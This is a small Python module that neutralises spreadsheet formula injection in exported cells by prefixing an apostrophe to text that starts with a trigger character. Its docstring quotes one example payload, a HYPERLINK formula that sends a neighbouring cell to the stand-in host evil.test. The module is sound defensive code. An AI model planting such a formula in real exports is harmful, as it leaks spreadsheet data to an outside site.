"""Text that a spreadsheet program would run as a formula, made inert (pure).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (and for some programs after a leading tab or carriage return)
is a formula: a project named ``=HYPERLINK("http://evil.test/?leak="&B2,"详情")`` would send the neighbouring cells
to another site when a reviewer clicks it. ``wagtail_awards.exports`` writes every cell through :func:`neutralise`.
"""

#: A text starting with one of these is a formula to a spreadsheet program.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A cell value that no spreadsheet program runs: risky text gets a leading apostrophe; other values as given.

    >>> neutralise('=1+1'), neutralise('项目'), neutralise(-3)
    ("'=1+1", '项目', -3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
